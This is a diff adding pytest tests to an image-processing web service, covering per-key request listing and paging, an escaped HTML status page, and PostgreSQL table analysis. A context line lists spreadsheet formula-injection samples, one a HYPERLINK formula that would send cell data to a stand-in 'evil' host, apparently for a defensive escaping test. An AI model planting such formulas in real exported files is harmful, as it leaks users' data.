@@ -214,6 +214,28 @@ def test_requests_are_listed_newest_first_and_paged(make_settings, image_server)
         assert second.json()["next_cursor"] is None
 
 
+def test_requests_lists_only_the_calling_keys_requests(make_settings, image_server):
+    url = image_server.add(images.jpeg((16, 16)))
+    with TestClient(create_app(make_settings(api_keys="key-one,key-two"))) as client:
+        one, two = {"X-API-Key": "key-one"}, {"X-API-Key": "key-two"}
+        mine = [upload(client, csv_of([(1, "A", [url])]), headers=one).json()["request_id"] for _ in range(2)]
+        theirs = upload(client, csv_of([(1, "B", [url])]), headers=two).json()["request_id"]
+        listed = client.get("/requests", headers=one).json()
+        assert [item["request_id"] for item in listed["items"]] == mine[::-1]
+        assert [item["request_id"] for item in client.get("/requests", headers=two).json()["items"]] == [
+            theirs
+        ]
+        first = client.get("/requests", params={"limit": 1}, headers=two).json()
+        assert first["next_cursor"] is None
+        page = client.get("/requests", params={"limit": 1}, headers=one).json()
+        assert [item["request_id"] for item in page["items"]] == mine[-1:]
+        rest = client.get("/requests", params={"limit": 1, "cursor": page["next_cursor"]}, headers=one).json()
+        assert [item["request_id"] for item in rest["items"]] == mine[:1] and rest["next_cursor"] is None
+        for request_id in mine:
+            wait_finished(client, request_id, headers=one)
+        wait_finished(client, theirs, headers=two)
+
+
 FORMULA_NAMES = ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+2", "-2+3", "@SUM(A1:A9)", "Shirt = blue"]
 
 
@@ -315,6 +337,46 @@ def test_browsers_get_an_html_status_page_with_user_text_escaped(client, image_s
     as_json = client.get(f"/status/{request_id}", params={"format": "json"}, headers={"Accept": "text/html"})
     assert as_json.json()["request_id"] == request_id
     assert client.get(f"/status/{request_id}").headers["content-type"] == "application/json"
+
+
+def test_format_html_gets_the_status_page_whatever_the_accept_header(client, image_server):
+    request_id = upload(client, csv_of([(1, "Boot <b>", [image_server.add(images.jpeg())])])).json()[
+        "request_id"
+    ]
+    wait_finished(client, request_id)
+    for accept in ("application/json", "*/*"):
+        page = client.get(f"/status/{request_id}", params={"format": "html"}, headers={"Accept": accept})
+        assert page.status_code == 200 and page.headers["content-type"].startswith("text/html")
+        assert "Boot &lt;b&gt;" in page.text and f"/download/{request_id}" in page.text
+    assert client.get(f"/status/{request_id}", params={"format": "xml"}).status_code == 422
+
+
+def test_a_large_upload_on_postgresql_analyzes_its_tables(client, image_server, database_url):
+    """10,000 rows of one URL: one download, the rest copies of it."""
+    import time
+
+    from sqlalchemy import create_engine, text
+    from sqlalchemy.engine import make_url
+    from sqlalchemy.pool import NullPool
+
+    if make_url(database_url).get_backend_name() != "postgresql":
+        pytest.skip("ANALYZE is for PostgreSQL's planner")
+    stats = create_engine(database_url, isolation_level="AUTOCOMMIT", poolclass=NullPool)
+    count_query = text("SELECT analyze_count FROM pg_stat_user_tables WHERE relname = 'images'")
+
+    def analyzed() -> int:
+        with stats.connect() as connection:
+            return connection.scalar(count_query)
+
+    before = analyzed()
+    url = image_server.add(images.jpeg((16, 16)))
+    response = upload(client, csv_of([(n, f"P{n}", [url]) for n in range(1, 10_001)]))
+    assert response.status_code == 202 and response.json()["total_images"] == 10_000
+    deadline = time.monotonic() + 30  # the statistics reach other sessions within seconds
+    while analyzed() == before and time.monotonic() < deadline:
+        time.sleep(0.2)
+    assert analyzed() > before
+    wait_finished(client, response.json()["request_id"], timeout=120)
 
 
 def test_hostile_urls_fail_alone_and_private_servers_see_nothing(make_settings, image_server):
